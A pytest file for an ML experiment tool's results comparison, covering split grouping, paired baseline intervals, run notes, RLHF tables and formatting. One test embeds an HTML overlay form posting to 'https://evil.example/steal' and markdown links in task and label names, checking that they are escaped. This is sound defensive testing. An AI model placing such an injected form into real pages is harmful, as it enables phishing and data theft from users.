"""The comparison of stored rows: splits never mixed, lines per method, the paired interval, a reproducible page."""

from __future__ import annotations

import json

import gradio as gr
import numpy as np
import pandas as pd
import pytest

from peftlab.report import compare, display_table, per_class_table, report_html, short_figure
from peftlab.stats import paired_difference
from peftlab.store import ResultRow, ResultStore
from peftlab.tasks import Task

TEXTS = [{"text": f"text {i}", "label": i % 2} for i in range(40)]
TASK = Task("tiny", ["negative", "positive"], ["text"], train=[], test=TEXTS)
GOLD = [e["label"] for e in TEXTS]


def row(method, predicted, seed=None, k=None, texts=TEXTS, kind="trained", **values) -> ResultRow:
    return ResultRow.scored(
        kind,
        "tiny-llama",
        TASK,
        method,
        {"lr": 0.1},
        texts,
        predicted,
        seed=seed,
        k=k,
        metrics={"model_params": 1000},
        **values,
    )


def prompted(method, settings, predicted, seed=None, k=None) -> ResultRow:
    """A trained-kind row with the prompt settings `settings` (templates, verbalizer)."""
    return ResultRow.scored("trained", "tiny-llama", TASK, method, settings, TEXTS, predicted, seed=seed, k=k)


def flip(n_wrong: int, offset: int = 0) -> list[int]:
    """The gold labels with `n_wrong` of them (from `offset`) flipped."""
    return [1 - g if offset <= i < offset + n_wrong else g for i, g in enumerate(GOLD)]


def test_rows_from_different_tabs_on_the_same_texts_land_in_one_table():
    rows = [
        row("zero-shot · mean", flip(12), kind="cloze"),
        row("autoprompt", flip(10), seed=13, k=16, kind="autoprompt"),
        row("lora", flip(4), seed=13, k=16, trainable_params=10),
        row("lora", flip(6, offset=20), seed=21, k=16, trainable_params=10),
    ]
    (split,) = compare(rows)
    assert (
        split.baseline == "zero-shot · mean" and split.texts == 40 and split.support == {"negative": 20, "positive": 20}
    )
    table = split.table.set_index("method")
    assert table.loc["lora", "runs"] == 2 and table.loc["lora", "accuracy_mean"] == pytest.approx((36 + 34) / 80)
    assert table.loc["lora", "accuracy_std"] == pytest.approx(abs(36 - 34) / 40 / 2**0.5)
    assert table.loc["lora", "trainable_share"] == pytest.approx(0.01)
    expected = paired_difference(GOLD, [flip(4), flip(6, offset=20)], [flip(12)])
    assert (table.loc["lora", "vs_baseline"], table.loc["lora", "ci_low"]) == pytest.approx(
        (expected.difference, expected.low)
    )
    assert table.loc["lora", "verdict"] == "better" and table.loc["autoprompt", "verdict"] == "not distinguishable"
    assert table.loc["zero-shot · mean", "verdict"] == "baseline"  # its row had no mark of being the baseline
    shown = display_table(split.table).set_index("method")
    assert shown.loc["lora", "vs baseline (points, 95% CI)"].startswith("+")
    # one run has no spread to show ("70.0% ± 0.0%" read as if a spread of 0 had been measured); two have one
    assert shown["accuracy"].to_dict() == {"zero-shot · mean": "70.0%", "autoprompt": "75.0%", "lora": "87.5% ± 3.5%"}
    # an interval end just below 0 beside "worse" read "-0.0", as if it reached 0; one at 0 exactly reads "+0.0"
    ends = split.table.assign(
        vs_baseline=[np.nan, -0.1, -0.25], ci_low=[np.nan, -0.2, -0.25], ci_high=[np.nan, 0.0, -0.0004]
    )
    assert display_table(ends)["vs baseline (points, 95% CI)"].tolist() == [
        "",
        "-10.0 [-20.0, +0.0]",
        "-25.0 [-25.0, -0.04]",
    ]
    tiny = split.table.assign(
        vs_baseline=[np.nan, 0.0001, 0.1], ci_low=[np.nan, 0.00004, 0.1], ci_high=[np.nan, 0.0002, 0.1]
    )
    assert display_table(tiny)["vs baseline (points, 95% CI)"][1] == "+0.01 [+0.004, +0.02]"  # "+0.00" beside better
    # zero-shot's 0.24 s read "0" beside the time chart that placed it at 0.24
    assert [short_figure(v) for v in (0.24, 3.14159, 60.4, 1234.5, 0.0)] == ["0.24", "3.1", "60", "1234", "0"]


def test_runs_that_differ_only_in_seed_or_what_they_found_are_one_line():
    def searched(seed, found, predicted, iterations=10):  # AutoPrompt's row: its config has the seed, what it found
        config = {"template": "{text} [T] {mask}", "iterations": iterations, "seed": seed}
        settings = {"config": config, "found_template": found, "pet": {"seeds": [seed], "shots": 16}}
        return ResultRow.scored("autoprompt", "tiny-llama", TASK, "autoprompt", settings, TEXTS, predicted, seed=seed)

    rows = [searched(13, "{text} great {mask}", flip(4)), searched(21, "{text} movie {mask}", flip(8))]
    rows.append(searched(13, "{text} great {mask}", flip(2), iterations=20))
    table = compare(rows)[0].table
    assert sorted(table["runs"]) == [1, 2]  # another number of iterations is another line
    assert table.set_index("runs").loc[2, "accuracy_mean"] == pytest.approx((36 + 32) / 80)


def test_a_seed_run_again_and_a_zero_shot_stored_twice_count_once():
    """The Cloze tab's zero-shot and the same zero-shot stored by a Soft prompts run showed "runs 2" under "mean ±
    std over seeds", and a grid run twice over seeds 13 and 21 counted four runs: the latest run of each seed counts,
    and a note says so."""
    rows = [
        row("zero-shot · mean", flip(12), kind="cloze"),
        row("lora", flip(8), seed=13, k=16),
        row("zero-shot · mean", flip(12), kind="cloze"),  # the same result stored again
        row("lora", flip(4), seed=13, k=16),  # seed 13 again (on a GPU, say): the latest counts
        row("lora", flip(6, offset=20), seed=21, k=16),
    ]
    (split,) = compare(rows)
    table = split.table.set_index("method")
    assert table.loc["zero-shot · mean", "runs"] == 1 and table.loc["lora", "runs"] == 2
    assert table.loc["lora", "accuracy_mean"] == pytest.approx((36 + 34) / 80)
    expected = paired_difference(GOLD, [flip(4), flip(6, offset=20)], [flip(12)])
    assert table.loc["lora", "vs_baseline"] == pytest.approx(expected.difference)
    assert split.notes == [
        "zero-shot · mean: stored 2 times with the same settings, counted once (the latest): the same run, not a "
        "replicate.",
        "lora (K 16): 3 stored runs of 2 seeds; each seed counts once (its latest run).",
    ]


def test_a_line_with_a_stopped_run_says_so():
    """A grid stopped at its first step (Stop, or the page closed) stored a run that the comparison averaged with the
    finished ones, with no sign that it had not trained to the end."""
    stopped = row("prompt-tuning", flip(2), seed=21, k=4)
    stopped.metrics["status"] = "stopped at step 1 of 3"
    rows = [row("zero-shot", flip(12), kind="cloze"), row("prompt-tuning", flip(8), seed=13, k=4), stopped]
    (split,) = compare(rows)
    assert split.notes == ["prompt-tuning (K 4): 1 of its 2 runs stopped at step 1 of 3, counted as it was then."]
    search = row("autoprompt", flip(6), k=16, kind="autoprompt")
    search.settings["stopped"] = "after 2 of 20 iterations"
    (split,) = compare([rows[0], search])
    assert split.notes == ["autoprompt (K 16): its run stopped after 2 of 20 iterations, counted as it was then."]


def test_rows_on_another_split_are_shown_apart_never_mixed():
    other_texts = TEXTS[:20]
    rows = [
        row("zero-shot · mean", flip(12), kind="cloze"),
        row("lora", flip(2), seed=13, k=16),
        row("lora", [e["label"] for e in other_texts], seed=21, k=16, texts=other_texts),
    ]
    splits = compare(rows)
    assert [(s.texts, list(s.table["method"])) for s in splits] == [(40, ["zero-shot · mean", "lora"]), (20, ["lora"])]
    assert splits[1].baseline is None and splits[1].table["verdict"].tolist() == [""]
    # a split apart was named by its hash alone ("a5610354b41b72ee, 40 texts"): it says what it scored
    assert [s.scored for s in splits] == ["all 40 test texts", "20 of 40 test texts"]


def test_lines_whose_runs_lean_on_one_label_are_named_in_the_comparison_and_its_report():
    """4 in-context demonstrations ending on 'positive' made the embedded model call 99 of 100 reviews positive: 51 %
    in the Compare table, read as a score. Such lines get a sentence, counted over their runs."""
    all_positive = [1] * 40  # 100 % 'positive' against 50 % gold
    mostly_positive = [1] * 34 + [0] * 6  # 85 %: a lean of 0.35
    rows = [
        row("zero-shot · mean", flip(12), kind="cloze"),  # 50 % positive predicted: no lean
        row("in-context", all_positive, k=4, kind="cloze"),
        row("lora", mostly_positive, seed=13, k=16),
        row("lora", all_positive, seed=21, k=16),
        row("lora", flip(2), seed=42, k=16),
    ]
    (split,) = compare(rows)
    assert split.notes == [
        "in-context (K 4): its run predicted 'positive' for 100% of the texts, against 50% of the gold labels: an "
        "accuracy of a model leaning on one label says little about reading the texts.",
        "lora (K 16): 2 of 3 runs predicted 'positive' for up to 100% of the texts, against 50% of the gold labels: "
        "an accuracy of a model leaning on one label says little about reading the texts.",
    ]
    assert "⚠️ in-context (K 4): its run predicted" in report_html([split], rows)
    assert compare(rows[:1])[0].notes == []


def test_the_report_from_the_store_alone_is_the_same_twice(tmp_path):
    store = ResultStore(tmp_path / "r.sqlite")
    store.add([row("zero-shot · mean", flip(12), kind="cloze"), row("lora", flip(2), seed=13, k=16)])
    first = report_html(compare(store.rows()), store.rows())
    second = report_html(compare(ResultStore(tmp_path / "r.sqlite").rows()), ResultStore(tmp_path / "r.sqlite").rows())
    assert first == second
    assert "zero-shot · mean" in first and "chart-0-0" in first and "chart-0-1" in first


def test_the_report_of_rlhf_results_shows_each_route_s_score_and_kl(tmp_path, monkeypatch, capsys):
    """`report` on an RLHF task said "Report of 2 results written" over a page reading "No stored results to compare
    yet": RLHF rows have no accuracy. Each route is a line (score, gain over SFT, KL) beside the score-KL frontier."""
    from peftlab.cli_core import light_parser, run_command
    from peftlab.rlhf.evaluation import PolicyComparison

    summary = {"labeler": "vader-positive", "prompts": 2, "samples_per_prompt": 1, "sft_mean_score": 0.1}
    summary |= {"ppo_mean_score": 0.5, "ppo_mean_kl": 2.0, "dpo_mean_score": 0.25, "dpo_mean_kl": 1.0}
    evaluation = PolicyComparison(pd.DataFrame({"prompt": ["a", "b"]}), summary, ["ppo", "dpo"])
    monkeypatch.setenv("PEFTLAB_RESULTS", str(tmp_path / "r.sqlite"))
    ResultStore().add(evaluation.result_rows("tiny", {}, {"ppo": 100.0, "dpo": 10.0}))
    out = tmp_path / "report.html"
    argv = ["report", "--task", "rlhf vader-positive", "--model", "tiny", "--out", str(out)]
    assert run_command(light_parser(), argv) == 0
    assert capsys.readouterr().out == f"Report of 2 results written to {out}.\n"
    page = out.read_text(encoding="utf-8")
    assert "No stored results" not in page and "2 RLHF results on the same 2 held-out prompts" in page
    # PPO, named as the chart names it: +0.500 with no std (one run; it said "± 0.000"), gain 0.5 - 0.1, KL 2.00,
    # 100 s; the frontier draws SFT, PPO and DPO
    assert "<td>PPO</td>\n      <td>1</td>\n      <td>+0.500</td>\n      <td>+0.100</td>\n      <td>+0.400</td>" in page
    assert "<td>2.00</td>" in page and "<td>1.00</td>" in page and "chart-rlhf-0" in page and "plotly" in page
    # the list of results shows each route's score where a classification row shows its accuracy (it showed none)
    listed = ResultStore().listing()
    assert listed["method"].tolist() == ["ppo", "dpo"] and listed["score"].tolist() == [0.5, 0.25]
    assert listed["accuracy"].isna().all()


def test_rlhf_routes_are_lines_by_their_own_settings_and_an_evaluation_stored_twice_is_one_run():
    """By method alone, the same PPO evaluation stored twice (an export imported again) read "2 runs, +0.400 ±
    0.000", and PPO runs with other settings were averaged into one line."""
    from peftlab.report import compare_routes
    from peftlab.rlhf.evaluation import PolicyComparison

    def evaluation(ppo_beta, dpo_beta, ppo_score, seed=0):
        summary = {"labeler": "vader-positive", "prompts": 2, "samples_per_prompt": 1, "sft_mean_score": 0.1}
        summary |= {"ppo_mean_score": ppo_score, "ppo_mean_kl": 2.0, "dpo_mean_score": 0.25, "dpo_mean_kl": 1.0}
        settings = {"seed": seed, "route": "both", "ppo": {"beta": ppo_beta, "seed": seed}, "dpo": {"beta": dpo_beta}}
        comparison = PolicyComparison(pd.DataFrame({"prompt": ["a", "b"]}), summary, ["ppo", "dpo"])
        return comparison.result_rows("tiny", settings, {"ppo": 100.0, "dpo": 10.0})

    first = evaluation(0.1, 0.1, 0.5)
    again = evaluation(0.1, 0.1, 0.5)  # the same evaluation, stored again under new ids
    (route,) = compare_routes([*first, *again])
    assert route.table.set_index("method")["runs"].to_dict() == {"ppo": 1, "dpo": 1}
    # another seed is a second run; another PPO beta another line; DPO's beta leaves PPO's line whole
    rows = [*first, *evaluation(0.1, 0.1, 0.3, seed=1), *evaluation(0.2, 0.3, 0.7)]
    (route,) = compare_routes(rows)
    table = route.table.set_index("method")
    assert table["runs"].to_dict() == {
        "ppo (beta 0.1)": 2,
        "dpo (beta 0.1)": 2,
        "ppo (beta 0.2)": 1,
        "dpo (beta 0.3)": 1,
    }
    assert table.loc["ppo (beta 0.1)", "score_mean"] == pytest.approx(0.4)
    assert list(route.display()["method"]) == ["PPO (beta 0.1)", "DPO (beta 0.1)", "PPO (beta 0.2)", "DPO (beta 0.3)"]
    route.frontier()  # every line is a point of its own


def test_the_compare_panel_says_what_to_do_when_nothing_is_stored_and_counts_its_rows(monkeypatch, tmp_path):
    import gradio as gr

    from peftlab.ui.compare_tab import show_comparison

    monkeypatch.setenv("PEFTLAB_RESULTS", str(tmp_path / "results.sqlite"))
    with pytest.raises(gr.Error, match=r"Nothing is stored yet: run a method in any tab"):
        show_comparison(None, None, None)
    ResultStore().add([row("zero-shot · mean", GOLD, kind="cloze")])
    with pytest.raises(gr.Error, match=r"Pick a task and a model: the lists hold those with stored results"):
        show_comparison(None, None, None)
    status = show_comparison("tiny", "tiny-llama", None)[0]
    assert status.startswith("**tiny · tiny-llama**: 1 result. Test split ") and " (1 line from 1 run): " in status
    ResultStore().add([row("lora", [e["label"] for e in TEXTS[:20]], seed=21, k=16, texts=TEXTS[:20])])
    status, *_, apart, _, _ = show_comparison("tiny", "tiny-llama", None)
    assert status.startswith("**tiny · tiny-llama**: 2 results. Test split ")  # the other split's is listed apart
    assert status.endswith(" 1 other test split is listed below, apart.")
    # each split apart names its own baseline (a helper read the other split's lines as against calibrated zero-shot)
    assert apart.value["headers"][-3:] == ["split", "scored", "baseline"] and apart.value["data"][0][-1] == "none"
    # the table's CSV holds every split, each line saying which (it held the main split's lines alone)
    table = pd.read_csv(show_comparison("tiny", "tiny-llama", None)[5])
    assert list(table["method"]) == ["zero-shot · mean", "lora"]
    assert list(table["baseline"]) == ["zero-shot · mean", "none"]
    assert list(table["scored"]) == ["all 40 test texts", "20 of 40 test texts"]


def test_names_from_stored_rows_are_literal_text_in_the_compare_panel(monkeypatch, tmp_path):
    """An imported results file named its task '<div style="position:fixed..."><form action=...>': gradio's
    Markdown sanitiser keeps forms, styles and outside links, and the form covered the whole Compare tab (a security
    review's finding). Every name from the rows is literal text."""
    from peftlab.ui.compare_tab import show_comparison

    monkeypatch.setenv("PEFTLAB_RESULTS", str(tmp_path / "results.sqlite"))
    overlay = '<div style="position:fixed;inset:0"><form action="https://evil.example/steal">'
    task = Task(f"my-task{overlay}", ["<=50K", "[paid](https://evil.example)"], ["text"], train=[], test=TEXTS)
    rows = [
        ResultRow.scored(kind, "*tiny*", task, method, {}, TEXTS, GOLD, metrics={"model_params": 1000})
        for kind, method in (("cloze", "zero-shot · mean"), ("trained", "lora_<b>x</b>"))
    ]
    ResultStore().add(rows)
    status = show_comparison(task.name, "*tiny*", None)[0]
    assert status.startswith(
        '**my-task&lt;div style="position:fixed;inset:0"&gt;&lt;form action="https://evil.example/steal"&gt; · '
        "\\*tiny\\***: 2 results."
    ), status
    assert "&lt;=50K" in status and "\\[paid\\](https://evil.example)" in status
    assert "<" not in status and "](" not in status.replace("\\](", "")


def test_a_label_name_in_a_verdict_is_literal_text():
    """A Hub dataset's label names are data: '<img src=...>' or a link in one reached the Start and Cloze tabs'
    Markdown as markup (a diff review's finding)."""
    from peftlab.ui.display import verdict

    assert verdict({"<b>x</b>": 0.9, "[y](https://e.x)": 0.1}) == "**&lt;b&gt;x&lt;/b&gt;** with probability 90%."
    assert verdict({"<b>x</b>": 0.1, "[y](https://e.x)": 0.9}) == "**\\[y\\](https://e.x)** with probability 90%."


def test_an_import_or_a_delete_draws_the_comparison_on_show_again(monkeypatch, tmp_path):
    """After "1 result deleted." the comparison above still said "2 results", and its downloads held the deleted one."""
    from peftlab.ui.compare_tab import delete_results, shown_again

    monkeypatch.setenv("PEFTLAB_RESULTS", str(tmp_path / "results.sqlite"))
    kept, gone = ResultStore().add([row("zero-shot · mean", GOLD, kind="cloze"), row("lora", GOLD, seed=21, k=16)])
    assert shown_again("tiny", "tiny-llama", "", None) == [gr.skip()] * 7  # none on show: nothing to draw
    assert "**tiny · tiny-llama**: 2 results." in shown_again("tiny", "tiny-llama", "shown", None)[0]
    delete_results(gone, None)
    status, _, _, _, _, csv_path, _ = shown_again("tiny", "tiny-llama", "shown", None)
    assert "**tiny · tiny-llama**: 1 result." in status
    assert list(pd.read_csv(csv_path)["method"]) == ["zero-shot · mean"]
    delete_results(kept, None)
    assert shown_again("tiny", "tiny-llama", "shown", None)[:2] == (
        "No stored results of that task and model yet: run something in another tab first.",
        None,
    )


def test_the_split_compared_first_is_the_one_with_most_runs_not_most_stored_copies():
    """One imported copy of a run put its split of 2 stored rows above the split of 2 methods being compared."""
    compared = [row("zero-shot · mean", GOLD, kind="cloze"), row("lora", GOLD, seed=21, k=16)]
    copies = [row("head", GOLD[:20], seed=13, k=16, texts=TEXTS[:20]) for _ in range(3)]  # one run, stored 3 times
    assert [split.fingerprint for split in compare(copies + compared)] == [
        compared[0].test_fingerprint,
        copies[0].test_fingerprint,
    ]


def test_the_accuracy_axis_marks_no_tick_above_100_percent():
    """A method at 100 % needs room above it for its label, and the axis once showed 105 % and 110 % in it."""
    import pandas as pd

    from peftlab.plots import accuracy_vs_parameters

    summary = pd.DataFrame(
        {
            "method": ["zero-shot", "lora"],
            "trainable_params": [0, 1000],
            "accuracy_mean": [0.96, 1.0],
            "accuracy_std": [0.0, 0.0],
        }
    )
    axis = accuracy_vs_parameters(summary).layout.yaxis
    assert axis.range[1] > 1.0  # room for the label above the point at 100 %
    assert max(axis.tickvals) == 1.0 and min(axis.tickvals) >= axis.range[0]


def test_lines_of_one_method_that_differ_in_settings_are_named_by_what_tells_them_apart():
    """The Cloze tab's zero-shot prompt and AutoPrompt's baseline (its template without the trigger) were two lines
    both named "zero-shot", at different accuracies; a sweep's note named the method, not the value it was about."""

    def zero_shot(template, predicted):
        settings = {"templates": [template], "calibration": "none"}
        return ResultRow.scored("cloze", "tiny-llama", TASK, "zero-shot", settings, TEXTS, predicted)

    def tuned(tokens, predicted):
        settings = {"config": {"num_virtual_tokens": tokens, "seed": 13}}
        return ResultRow.scored(
            "trained",
            "tiny-llama",
            TASK,
            "prompt-tuning",
            settings,
            TEXTS,
            predicted,
            seed=13,
            k=16,
            trainable_params=10,
        )

    rows = [
        zero_shot("Review: {text}\nSentiment:{mask}", flip(12)),
        zero_shot("{text} {mask}", flip(16)),
        tuned(5, [1] * 40),
        tuned(20, flip(4)),
    ]
    (split,) = compare(rows)
    review = 'zero-shot (templates "Review: {text}\\nSentiment:{mask}")'
    assert split.baseline == 'zero-shot (templates "{text} {mask}")'  # of two, the line stored last
    assert list(split.table["method"]) == [
        split.baseline,
        review,
        "prompt-tuning (num_virtual_tokens 20)",
        "prompt-tuning (num_virtual_tokens 5)",
    ]
    assert split.table.set_index("method").loc[review, "vs_baseline"] == pytest.approx((28 - 24) / 40)
    assert split.notes == [
        "prompt-tuning (num_virtual_tokens 5, K 16): its run predicted 'positive' for 100% of the texts, against 50% "
        "of the gold labels: an accuracy of a model leaning on one label says little about reading the texts.",
        f'{review}: read its texts with another template than the baseline (template "{{text}} {{mask}}"): its '
        "difference holds what its prompt gives, as well as what the method does.",
        *(
            f"prompt-tuning (num_virtual_tokens {tokens}, K 16): one run (seed 13): its interval covers another draw "
            "of test texts, not of seeds, so its verdict may not hold for another seed; run more seeds to tell."
            for tokens in (5, 20)
        ),
    ]
    (alone,) = compare([rows[1], rows[3]])
    assert list(alone.table["method"]) == ["zero-shot", "prompt-tuning"]  # a line alone is named by its method


def test_a_trained_line_of_one_run_is_told_its_interval_leaves_seeds_out_and_each_label_has_its_f1():
    """A one-seed line's interval resamples texts alone, and its verdict read as a 3-seed line's does (simulated:
    16 to 29 % of such lines called better or worse with no true difference); per-class F1 was stored, never shown."""
    lora = [row("lora", flip(4), seed=13, k=16), row("lora", flip(6), seed=21, k=16)]
    rows = [row("zero-shot", flip(12), kind="cloze"), row("prompt-tuning", flip(8), seed=42, k=16), *lora]
    (split,) = compare(rows)
    assert [note for note in split.notes if "one run" in note] == [
        "prompt-tuning (K 16): one run (seed 42): its interval covers another draw of test texts, not of seeds, so its "
        "verdict may not hold for another seed; run more seeds to tell."
    ]  # zero-shot has no seed to draw, LoRA has two
    (line,) = split.table[split.table["method"] == "lora"].to_dict("records")
    runs = [r for r in rows if r.method == "lora"]
    for label in runs[0].per_class_f1:
        assert line[f"f1 {label}"] == pytest.approx(np.mean([r.per_class_f1[label] for r in runs]))
    shown = per_class_table(split.table)
    assert list(shown.columns) == ["method", "K", *(f"F1 {label}" for label in runs[0].per_class_f1)]
    assert "F1 of each label" in report_html([split], rows)


def test_rows_of_one_split_whose_labels_are_named_otherwise_are_compared_by_label_position():
    """The same upload with labels 'neg'/'pos' and 'negative'/'positive' shares a fingerprint (it holds the label
    numbers, not their names): each line's F1 looked up by the first row's names failed the whole comparison."""
    renamed = Task("tiny", ["neg", "pos"], ["text"], train=[], test=TEXTS)
    other = ResultRow.scored("trained", "tiny-llama", renamed, "lora", {"lr": 0.1}, TEXTS, flip(4), seed=13, k=16)
    first = row("zero-shot", flip(12), kind="cloze")
    (split,) = compare([first, other])
    (line,) = split.table[split.table["method"] == "lora"].to_dict("records")
    assert (line["f1 negative"], line["f1 positive"]) == tuple(other.per_class_f1.values())


def test_a_split_without_zero_shot_says_why_and_how_to_get_one():
    """PET on 10 test texts beside zero-shot rows on 100 and 200 (the Start and Cloze tabs' defaults) read "baseline:
    no zero-shot result stored yet", four zero-shot rows below, with the verdicts blank and no word why."""
    few = TEXTS[:10]
    rows = [row("pet", GOLD[:10], seed=13, k=2, texts=few), row("zero-shot", flip(12), kind="cloze")]
    pet, cloze = sorted(compare(rows), key=lambda split: split.texts)
    assert cloze.baseline_said == "zero-shot" and pet.baseline is None
    assert pet.baseline_said == (
        "none on these 10 texts (zero-shot scored on other texts cannot be paired with them: the standard comparison "
        "and a Soft prompts grid score it on their own test texts, and the Cloze tab does with Test texts 10 where "
        "the task has a test split)"
    )
    assert "Baseline: none on these 10 texts (zero-shot scored on other texts" in report_html([pet], rows)


def test_the_baseline_is_zero_shot_on_the_prompt_the_compared_methods_read():
    """An AutoPrompt search stores zero-shot on its template without the trigger; stored after the Soft prompts
    grid's zero-shot, it became the baseline (the latest), and prompt tuning trained on "Review: ..." was said to beat
    zero-shot by points that its template alone gave."""
    review = {"templates": ["Review: {text}\nSentiment:{mask}"], "verbalizer": "negative / positive"}
    bare = review | {"templates": ["{text} {mask}"]}

    rows = [
        prompted("zero-shot", review, flip(4)),
        prompted("prompt-tuning", review, flip(4), seed=13, k=16),
        prompted("prompt-tuning", review, flip(2), seed=21, k=16),
        prompted("autoprompt", {"config": {"template": "{text} [T] {mask}"}}, flip(20), seed=13, k=16),
        prompted("zero-shot", bare, flip(8)),
    ]
    (split,) = compare(rows)
    assert split.baseline == 'zero-shot (templates "Review: {text}\\nSentiment:{mask}")'
    lines = split.table.set_index("method")
    # 36 and 38 of 40 right against 36: +0 and +5 points, +2.5 in the mean (against the bare template's 32, +12.5)
    assert lines.loc["prompt-tuning", "vs_baseline"] == pytest.approx(0.025)
    # no other run on either prompt: the latest, as before
    assert compare([rows[0], rows[3], rows[4]])[0].baseline == 'zero-shot (templates "{text} {mask}")'


def test_a_calibrated_zero_shot_on_another_template_is_not_the_baseline_of_runs_on_their_own():
    """The review's case: the Cloze tab stored a mean-calibrated zero-shot on one template (50 %), a grid its plain
    zero-shot and LoRA on another (75 %; LoRA 77.5 and 80 %). The calibration came first, and LoRA was said to beat
    zero-shot by 28.7 points, 25 of them its template's."""
    cloze_tab = {"templates": ["{text} It was{mask}."], "verbalizer": "negative / positive"}
    grid = cloze_tab | {"templates": ["Review: {text}\nSentiment:{mask}"]}

    rows = [
        prompted("zero-shot · mean", cloze_tab, flip(20)),
        prompted("zero-shot", grid, flip(10)),
        prompted("lora", grid, flip(9), seed=13, k=16),
        prompted("lora", grid, flip(8), seed=21, k=16),
    ]
    (split,) = compare(rows)
    assert split.baseline == "zero-shot"
    assert split.table.set_index("method").loc["lora", "vs_baseline"] == pytest.approx((31 + 32 - 60) / 80)
    assert split.notes == [
        'zero-shot · mean: read its texts with another template than the baseline (template "Review: '
        '{text}\\nSentiment:{mask}"): its difference holds what its prompt gives, as well as what the method does.'
    ]
    # another verbalizer alone is named as such, with the baseline's
    (split,) = compare([*rows[1:], prompted("zero-shot · mean", grid | {"verbalizer": "negative / good"}, flip(20))])
    assert split.notes[-1].startswith(
        'zero-shot · mean: read its texts with another verbalizer than the baseline (verbalizer "negative / positive")'
    )
    # on one template, the calibrated zero-shot is still preferred
    assert compare([prompted("zero-shot · mean", grid, flip(20)), *rows[1:]])[0].baseline == "zero-shot · mean"


def test_templates_that_differ_past_a_name_s_width_are_named_apart_and_the_baseline_comes_first():
    """Two zero-shot lines on "{text} To sum it up in one word, the movie was {mask}." and "...{mask}!" were both
    named 'zero-shot (templates "{text} To sum it up in one word, t…)', and the baseline was sorted by that name."""
    long = "{text} To sum it up in one word, the movie was {mask}"

    def zero_shot(template, predicted):
        settings = {"templates": [template], "calibration": "none"}
        return ResultRow.scored("cloze", "tiny-llama", TASK, "zero-shot", settings, TEXTS, predicted)

    (split,) = compare([zero_shot(long + ".", flip(2)), zero_shot(long + "!", flip(30))])
    assert list(split.table["method"]) == [
        'zero-shot (templates …e was {mask}!")',  # the latest stored, the baseline, first
        'zero-shot (templates …e was {mask}.")',
    ]
    assert list(split.table["verdict"]) == ["baseline", "better"]


def test_a_row_with_a_split_s_fingerprint_but_other_texts_is_compared_apart():
    """An imported row with a 40-text split's fingerprint and 30 predictions (and gold labels) made every comparison
    of the task and model fail: "predictions must be runs of 40 labels each"."""
    forged = row("lora", GOLD[:30], seed=13, k=16, texts=TEXTS[:30], trainable_params=10)
    forged.test_fingerprint = row("zero-shot", GOLD).test_fingerprint
    splits = compare([row("zero-shot", flip(4)), forged])
    assert sorted(split.texts for split in splits) == [30, 40]


def test_a_row_without_its_model_s_size_shows_its_share_as_unknown():
    """ "1,234 (0%)" beside a row imported without metrics' model_params."""
    imported = row("lora", flip(4), seed=13, k=16, trainable_params=1234)
    imported.metrics = {}
    (split,) = compare([imported])
    assert display_table(split.table)["trainable"].tolist() == ["1,234 (share unknown)"]


def test_lines_told_apart_by_their_verbalizer_name_its_words_not_its_json():
    """Lines named '{"negative": ["neg…' (a JSON text within JSON, escaped) after a search found label words."""

    def zero_shot(verbalizer, predicted):
        settings = {"templates": ["{text} {mask}"], "verbalizer": json.dumps(verbalizer)}
        return ResultRow.scored("cloze", "tiny-llama", TASK, "zero-shot", settings, TEXTS, predicted)

    rows = [zero_shot({"negative": ["bad"], "positive": ["good"]}, flip(4)), zero_shot({"negative": "no"}, flip(8))]
    (split,) = compare(rows)
    assert sorted(split.table["method"]) == [
        "zero-shot (verbalizer negative: bad / positive: good)",
        "zero-shot (verbalizer negative: no)",
    ]
